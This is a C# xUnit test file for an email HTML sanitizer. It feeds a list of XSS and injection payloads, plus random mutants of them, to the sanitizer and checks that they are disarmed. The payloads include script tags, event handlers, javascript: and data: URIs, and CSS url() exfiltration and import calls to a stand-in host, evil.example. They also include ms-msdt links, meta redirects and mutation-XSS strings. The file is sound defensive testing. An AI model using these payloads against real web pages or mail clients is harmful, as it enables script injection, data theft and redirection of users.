using System.Globalization;
using System.Text;
using PstMigration.Formats.Tests.Mime;
using PstMigration.Mapi;
using PstMigration.Tests;
using Xunit;

namespace PstMigration.Formats.Tests.Html;

public sealed class HtmlSanitizerTests
{
    private const int Mutants = 4000;

    public static readonly string[] Attacks =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<script>a</script\t\n bar><img src=x onerror=alert(1)>",
        "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" `<script>alert(1)</script>`onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img/src=\"x\"/onerror=\"alert(1)\">",
        "<img src=javascript:alert(1)>",
        "<img src=`javascript:alert(1)`>",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img dynsrc=\"http://evil.example/\" lowsrc=\"http://evil.example/\" srcset=\"http://evil.example/ 2x\" src=\"http://evil.example/1.gif\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img src=\"file://server/share/a.png\"><img src=\"\\\\server\\share\\a.png\"><img src=\"//server/a.png\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"file:///c:/windows/system32/calc.exe\">x</a>",
        "<a href=\"\\\\server\\share\">x</a><a href=\"//server/share\">y</a><a href=\"/\\server/share\">z</a><a href=\"calc.exe\">w</a>",
        "<a href=\"ms-msdt:/id\">x</a><a href=\"search-ms:query=x\">y</a><a href=\"blob:x\">z</a>",
        "<a href=\"http://good.example/\" ping=\"http://evil.example/\" onclick=\"alert(1)\" target=\"_top\">x</a>",
        "<a href='http://x\"onmouseover=alert(1) x='>y</a>",
        "<body onload=alert(1) background=\"http://evil.example/b.gif\" style=\"background:url(http://evil.example/c)\">",
        "<body text='x\" onload=\"alert(1)'>",
        "<table background=\"javascript:alert(1)\"><td background=\"http://evil.example/\">x</table>",
        "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
        "<div style=\"background:\\75 rl(http://evil.example/)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div><div style=\"width:exp/**/ression(alert(1))\">x</div>",
        "<div style=\"color:red;behavior:url(x.htc);-moz-binding:url(x)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<div style=\"font-family:'a';x:url('http://evil.example')\">x</div>",
        "<div style='content:\"</style><script>alert(1)</script>\"'>x</div>",
        "<div style=\"background:image-set('http://evil.example/' 1x)\">x</div>",
        "<style>@import url(http://evil.example/x.css);</style>",
        "<style>@import 'http://evil.example/x.css'; p{color:red}</style>",
        "<style>p{background:url(http://evil.example/)}</style>",
        "<style>p{color:red}</style><img src=x onerror=alert(1)>",
        "<style>p::before{content:'</style><script>alert(1)</script>'}</style>",
        "<style>input[value^=a]{background:url(http://evil.example/a)}</style>",
        "<style>@font-face{font-family:x;src:url(http://evil.example/f)} @media screen{p{background:url(x)}}</style>",
        "<style><!-- body{color:red} --></style><style>*{color:red}html{display:none}</style>",
        "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=http://evil.example/\"><meta http-equiv=\"Content-Security-Policy\" content=\"\">",
        "<base href=\"http://evil.example/\"><a href=\"x\">y</a>",
        "<iframe src=http://evil.example/></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object><embed src=\"x.swf\"><applet code=x></applet>",
        "<form action=http://evil.example/><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<select><option><img src=x onerror=alert(1)></option></select><textarea><img src=x onerror=alert(1)></textarea>",
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\"></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title><noembed><img src=x onerror=alert(1)></noembed>",
        "<template><script>alert(1)</script></template>",
        "<video poster=http://evil.example/><source src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details><bgsound src=http://evil.example/>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
        "<!-- --!><script>alert(1)</script> -->",
        "<?xml version=\"1.0\"?><?import namespace=\"t\"?><div x='<script>alert(1)</script>'>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
        "<a href=\"https://good.example/?a=1&amp;b=<script>\" title=\"&quot;><script>alert(1)</script>\">x</a>",
        "<p id=\"x\" name=\"location\" class=\"mail-heading mail-blocked\">x</p><a name=\"top\">y</a><a href=\"#top\">z</a>",
        "<img src=x alt=\"<script>alert(1)</script>\" title='\"><script>'>",
        "<<script>alert(1)//<</script>",
        "<div\0onclick=alert(1)>x<\0script>alert(1)</script>",
        "<a\u2028onclick=alert(1)>x</a><img src\u00A0=x onerror\u3000=alert(1)>",
        "</div></div></table></body></html><table class=mail-heading><tr><td>From: boss</td></tr></table>",
        "<img src=x onerror=alert(1)",
        "<a href=\"http://x",
    ];

    public static IEnumerable<TheoryDataRow<int>> AttackNumbers => Enumerable.Range(0, Attacks.Length).Select(i => new TheoryDataRow<int>(i));

    [Theory]
    [MemberData(nameof(AttackNumbers))]
    public void Attacks_are_disarmed(int number)
    {
        SanitizedHtml html = Sanitize(Attacks[number]);

        Check(html);
        SanitizedHtml amidst = Sanitize("<table><tr><td><p>before" + Attacks[number] + "after");
        Check(amidst);
    }

    [Fact]
    public void What_was_disarmed_is_told()
    {
        Assert.False(Sanitize("<p style='color:red'>a <b>b</b> <a href='https://example.jp/'>c</a><o:p></o:p></p>").IsDisarmed);
        Assert.All(
            new[] { "<script></script>", "<p onclick=a>", "<img src=http://x/>", "<form>", "<p style='background:url(x)'>", "<style>@import 'x';</style>", "<a href='file:///c:/'>x</a>", "<meta http-equiv=refresh content=0>" },
            attack => Assert.True(Sanitize(attack).IsDisarmed, attack));
    }

    [Fact]
    public void Mutants_of_attacks_are_disarmed()
    {
        Random random = new(20261126);
        string[] pieces = ["<", ">", "\"", "'", "=", "/", "</", "<!--", "-->", "&#", "&lt;", "javascript:", "onerror=", "style=", "url(", "\\", "/*", "*/", "{", "}", "\0", "\n", "<script", "<style>", "</style>", "<svg>", "]]>", "<img src=", "\uD800"];
        for (int i = 0; i < Mutants; i++)
        {
            StringBuilder html = new(Attacks[random.Next(Attacks.Length)] + Attacks[random.Next(Attacks.Length)]);
            for (int change = random.Next(1, 8); change > 0; change--)
            {
                int at = random.Next(html.Length);
                switch (random.Next(3))
                {
                    case 0:
                        html.Insert(at, pieces[random.Next(pieces.Length)]);
                        break;
                    case 1:
                        html.Remove(at, Math.Min(random.Next(1, 6), html.Length - at));
                        break;
                    default:
                        html[at] = (char)random.Next(1, 0x100);
                        break;
                }
            }

            string mutant = html.ToString();
            try
            {
                Check(Sanitize(mutant));
            }
            catch (Exception e) when (e is not OperationCanceledException)
            {
                Assert.Fail("Mutant " + i.ToString(CultureInfo.InvariantCulture) + ": " + mutant + "\n" + e);
            }
        }
    }

    [Fact]
    public void Layout_stays()
    {
        const string Html = "<html><head><style>p.MsoNormal, body {margin:0cm;font-family:\"ＭＳ Ｐゴシック\",sans-serif} #t > td:first-child {color:#FF0000}</style></head>"
            + "<body bgcolor=\"#ffffee\" text=navy style='font-size:10pt'><p class=MsoNormal style=\"margin-left:-5.4pt;color:rgb(1,2,3)\">請求書 &amp; <b>bold</b>&nbsp;<br>"
            + "<table id=t border=1><tr><td colspan=2 bgcolor=red>x</table><a href=\"https://example.jp/?a=1&amp;b=2\">link</a></body></html>";

        SanitizedHtml html = Sanitize(Html);

        Assert.Equal("font-size:10pt;background-color:#ffffee;color:navy", html.Style);
        Assert.Equal(".mail-body p.m-MsoNormal,.mail-body{margin:0cm;font-family:\"ＭＳ Ｐゴシック\",sans-serif}\n.mail-body #m-t > td:first-child{color:#FF0000}\n", html.Sheet);
        Assert.Contains("<p class=\"m-MsoNormal\" style=\"margin-left:-5.4pt;color:rgb(1,2,3)\">請求書 &amp; <b>bold</b>\u00A0<br>", html.Content, StringComparison.Ordinal);
        Assert.Contains("<table id=\"m-t\" border=\"1\"><tr><td colspan=\"2\" bgcolor=\"red\">x</table>", html.Content, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://example.jp/?a=1&amp;b=2\" rel=\"noreferrer noopener nofollow\" target=\"_blank\">link</a>", html.Content, StringComparison.Ordinal);
        Assert.False(html.IsDisarmed);
    }

    [Fact]
    public void Disarmed_links_and_pictures_still_say_where_they_led()
    {
        string html = Sanitize("<a href=\"\\\\server\\share\">the share</a><img src=\"https://track.example/1.gif\" alt=\"Logo\">").Content;

        Assert.Equal(
            "<a data-href=\"\\\\server\\share\">the share</a><span class=\"mail-blocked\" title=\"https://track.example/1.gif\">[Logo]</span>",
            html);
    }

    [Fact]
    public void Depth_and_number_are_bounded()
    {
        string deep = Sanitize(string.Concat(Enumerable.Repeat("<div>", 100_000)) + "text").Content;
        string wide = Sanitize("<p " + string.Concat(Enumerable.Range(0, 10_000).Select(i => "a" + i.ToString(CultureInfo.InvariantCulture) + "=1 ")) + ">text").Content;

        Assert.Contains("text", deep, StringComparison.Ordinal);
        Assert.True(deep.Length < 10_000);
        Assert.Equal("<p>text</p>", wide);
    }

    private static SanitizedHtml Sanitize(string html) => HtmlSanitizer.Sanitize(html, new HtmlPictures(Mail.Item(), [], [], new HtmlExportOptions()));

    private static void Check(SanitizedHtml html)
    {
        SafeHtml.Check(html.Content);
        SafeHtml.CheckCss(html.Style);
        SafeHtml.CheckCss(html.Sheet);
    }
}
